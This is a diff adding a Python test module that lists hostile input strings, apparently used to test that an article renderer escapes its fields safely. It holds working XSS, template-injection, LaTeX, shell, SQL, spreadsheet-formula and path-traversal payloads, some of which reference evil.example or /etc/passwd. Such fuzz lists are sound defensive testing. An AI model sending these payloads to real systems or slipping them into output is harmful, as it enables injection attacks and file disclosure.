@@ -1,0 +1,102 @@
+"""Short texts that mean something to some reader of text: kinds for every field.
+
+Each stands in the title, the outlet, the text, a quotation, a target and the id.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+PROBE: Final = "window.broken=1;alert(1)"
+"""What the browser test looks for: if any of it ran, the page shows it."""
+
+WORDS: Final[dict[str, str]] = {
+    # Markup and what browsers make of it.
+    "script": f"<script>{PROBE}</script>",
+    "end of script": f"</script><script>{PROBE}</script>",
+    "end of title": f"</title><script>{PROBE}</script>",
+    "end of style": f"</style><script>{PROBE}</script>",
+    "end of text area": f"</textarea><script>{PROBE}</script>",
+    "svg onload": f'<svg onload="{PROBE}">',
+    "svg script": f"<svg><script>{PROBE}</script></svg>",
+    "image onerror": f"<img src=x onerror='{PROBE}'>",
+    "event handler in an attribute": f'" onmouseover="{PROBE}" x="',
+    "event handler, single quotes": f"' onfocus='{PROBE}' autofocus x='",
+    "details ontoggle": f"<details open ontoggle={PROBE}>",
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "iframe srcdoc": f"<iframe srcdoc='<script>{PROBE}</script>'></iframe>",
+    "object": '<object data="https://evil.example/x"></object>',
+    "base": '<base href="https://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
+    "style import": "<style>@import 'https://evil.example/x.css'</style>",
+    "form": '<form action="https://evil.example/"><input autofocus></form>',
+    "javascript address": f'<a href="javascript:{PROBE}">x</a>',
+    "data address": f"data:text/html,<script>{PROBE}</script>",
+    "unclosed comment": "<!-- never closed",
+    "unclosed tag": "<a href='",
+    "cdata": f"<![CDATA[<script>{PROBE}</script>]]>",
+    "entities": f"&lt;script&gt;{PROBE}&lt;/script&gt;",
+    "entities by number": f"&#x3c;script&#x3e;{PROBE}&#x3c;/script&#x3e;",
+    "entities twice": f"&amp;lt;script&amp;gt;{PROBE}&amp;lt;/script&amp;gt;",
+    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "full-width script": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "template": "<template><slot name=x></slot></template>",
+    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    # Languages of templates, typesetters and shells.
+    "jinja expression": "{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
+    "jinja block": "{% for x in range(9**9) %}{% endfor %} {% raw %}",
+    "jinja comment": "{# never closed",
+    "format string": "{0.__class__} {} %s %n %(x)s ${x}",
+    "typst import": '#import "/etc/passwd": *',
+    "typst read": '#read("/etc/passwd") #include "x.typ"',
+    "typst eval": '#eval("1+1") #panic("x") #{ while true {} }',
+    "typst mathematics": "$ x^2 $ @reference <label> = Heading",
+    "typst comment": "/* never closed // ` ``` \\u{202e} \\",
+    "markdown": "![x](https://evil.example/x.png) [y](javascript:alert(1)) # h",
+    "latex": r"\input{/etc/passwd} \write18{touch broken}",
+    "shell": "$(touch broken) `touch broken` ; touch broken | touch broken",
+    "sql": "'; DROP TABLE articles; --",
+    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/nope]",
+    "terminal codes": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
+    # Spreadsheets.
+    "formula =": '=HYPERLINK("https://evil.example","x")',
+    "formula command": "=cmd|' /C calc'!A0",
+    "formula +": "+1+cmd|' /C calc'!A0",
+    "formula -": "-2+3+cmd|' /C calc'!A0",
+    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula after a tab": "\t=1+2",
+    "formula after a return": "\r=1+3",
+    "formula after a line": "\n=1+4",
+    "formula in full width": "\uff1d1+1",
+    "formula after a quotation mark": '"=1+1","=2+2"',
+    "formula after a semicolon": "x;=1+1",
+    # Unicode.
+    "turned direction": "\u202egnp.exe\u202d \u2066\u2067\u2068 \u200f",
+    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
+    "stack of marks": "Z" + "\u0301\u0323\u0334" * 200,
+    "control characters": "".join(map(chr, range(32))) + "\x7f\x80\x85\x9f",
+    "half a character": "\ud83d alone, \ude00 alone",
+    "no characters": "\ufffe \uffff \ufdd0 \U0010ffff",
+    "private use": "\ue000\uf8ff\U000f0000",
+    "tags": "\U000e0041\U000e0042\U000e007f",
+    "breaks of lines": "a\u2028b\u2029c\x0bd\x0ce\x85f\rg\r\nh\n\ni",
+    "long ligature": "\ufdfa" * 50,
+    "capitals that grow": "ßŉǰΐﬃ İ ı K Å",
+    "four scripts": "习近平 Москва سلام हिन्दी 한국어 ไทย",
+    "faces": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇳 🧿",
+    # Names that mean a place, and words that mean nothing.
+    "path": "../../../../etc/passwd",
+    "absolute path": "/etc/passwd",
+    "path of windows": "..\\..\\C:\\CON",
+    "device": "CON",
+    "dots": "..",
+    "null": "null",
+    "not a number": "NaN",
+    "attribute of objects": "__proto__ constructor toString",
+    "number": "-0",
+    "ten thousand letters": "x" * 10_000,
+    "ten thousand words": "very long " * 1_000,
+    "json": '{"$ref": "#", "a": [1, null]}',
+    "blank": "\u3164 \u2800 \u00a0",
+}
